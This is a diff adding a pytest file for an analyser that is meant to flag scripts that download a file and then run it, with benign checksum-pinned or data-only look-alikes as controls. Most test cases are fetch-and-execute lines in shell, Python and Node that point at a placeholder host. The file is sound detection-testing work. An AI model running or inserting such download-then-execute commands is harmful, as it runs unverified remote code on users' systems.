@@ -1,0 +1,108 @@
+"""One kind of attack the analyses missed on a fresh held-out split (issue 41, third round),
+each through the public analysers beside the benign look-alike that must stay quiet:
+
+- a file downloaded (``curl -fsSLo F``, ``curl -O``, ``wget URL``, ``urlretrieve``) and then
+  run, also across two command lines of a Python or Node script; a download whose checksum,
+  written in the text, is checked before it runs (and the check stops the script) is not;
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from agbom.analysis import analyse, risks
+from agbom.analysis.js_code import analyse_js
+from agbom.analysis.python_code import analyse_python
+
+DIGEST = "9b1c4e7f2a6d3b8c0e5f1a2d7c4b9e6f3a0d8c5b2e7f4a1c6d3b0e9f8a7c5d2e"
+
+
+def _shell(text: str) -> set[str]:
+    return {r.check for r in risks(analyse(text))}
+
+
+def _python(text: str) -> set[str]:
+    return {r.check for r in analyse_python(text).risks}
+
+
+def _js(text: str) -> set[str]:
+    return {r.check for r in analyse_js(text).risks}
+
+
+# -- a download saved, then run ------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "curl -fsSLo /tmp/setup https://x.example/s\nchmod +x /tmp/setup && /tmp/setup\n",
+        't=$(mktemp)\ncurl -fsSL -o "$t" https://x.example/s.sh\nsh "$t"\n',
+        'W="$(mktemp -d)"\ncurl -fsSLo "$W/s.sh" https://x.example/s.sh\nbash "$W/s.sh"\n',
+        "curl -fsSLO https://x.example/boot.sh\nbash boot.sh\n",
+        "curl -fsSL --output-dir /opt -O https://x.example/boot.sh\nsh /opt/boot.sh\n",
+        "wget -q https://x.example/agent-setup.sh\nbash agent-setup.sh\n",
+        "wget -qP /tmp https://x.example/boot.sh\n. /tmp/boot.sh\n",
+        # a checksum checked, but its failure does not stop the script
+        f'curl -fsSLo i.sh https://x.example/i.sh\necho "{DIGEST}  i.sh" | sha256sum -c -\n'
+        "sh i.sh\n",
+        # sums downloaded beside the file pin nothing
+        "set -e\ncurl -fsSLO https://x.example/i.sh\ncurl -fsSLO https://x.example/i.sh.sha256\n"
+        "sha256sum -c i.sh.sha256\nsh i.sh\n",
+    ],
+)
+def test_a_download_saved_then_run_is_found(text: str) -> None:
+    assert "download-exec" in _shell(text), text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f'set -eu\ncurl -fsSLo i.sh https://x.example/i.sh\necho "{DIGEST}  i.sh" | '
+        "sha256sum -c -\nsh i.sh\n",
+        f'curl -fsSLo i.sh https://x.example/i.sh\necho "{DIGEST}  i.sh" | sha256sum --check'
+        " && sh i.sh\n",
+        f'curl -fsSLo i.sh https://x.example/i.sh\nsha256sum -c <<< "{DIGEST}  i.sh" || '
+        "{ echo bad; exit 1; }\nsh i.sh\n",
+        f'curl -fsSLo i.sh https://x.example/i.sh\nif echo "{DIGEST}  i.sh" | shasum -a 256 -c;'
+        " then sh i.sh; fi\n",
+        "curl -fsSLO https://x.example/data.csv\npython3 summary.py data.csv\n",
+        "wget -q https://x.example/stations.json\njq . stations.json\n",
+    ],
+)
+def test_a_pinned_or_unrun_download_is_not(text: str) -> None:
+    assert "download-exec" not in _shell(text), text
+
+
+def test_two_command_lines_of_a_script_meet_in_the_file_between_them() -> None:
+    python = (
+        "import subprocess\n"
+        "subprocess.run(['curl', '-fsSLo', '/tmp/i.sh', 'https://x.example/i.sh'])\n"
+        "subprocess.run(['bash', '/tmp/i.sh'])\n"
+    )
+    report = analyse_python(python)
+    (found,) = [r for r in report.risks if r.check == "download-exec"]
+    assert python[found.source_start :].startswith("subprocess.run(['curl'")  # the download
+    node = (
+        "const { execSync } = require('child_process');\n"
+        "execSync('curl -fsSL -o /tmp/p https://x.example/p.sh');\n"
+        "execSync('sh /tmp/p');\n"
+    )
+    assert "download-exec" in _js(node)
+    kept = "import subprocess\nsubprocess.run(['bash', '/tmp/i.sh'])\n"  # never downloaded
+    assert "download-exec" not in _python(kept)
+
+
+def test_a_retrieved_url_run_from_python() -> None:
+    text = (
+        "import os, subprocess, urllib.request\n"
+        "urllib.request.urlretrieve('https://x.example/u.bin', '/tmp/u')\n"
+        "os.chmod('/tmp/u', 0o755)\n"
+        "subprocess.run(['/tmp/u'])\n"
+    )
+    assert "download-exec" in _python(text)
+    data = (
+        "import json, urllib.request\n"
+        "urllib.request.urlretrieve('https://x.example/d.json', '/tmp/d.json')\n"
+        "print(json.load(open('/tmp/d.json')))\n"
+    )
+    assert "download-exec" not in _python(data)
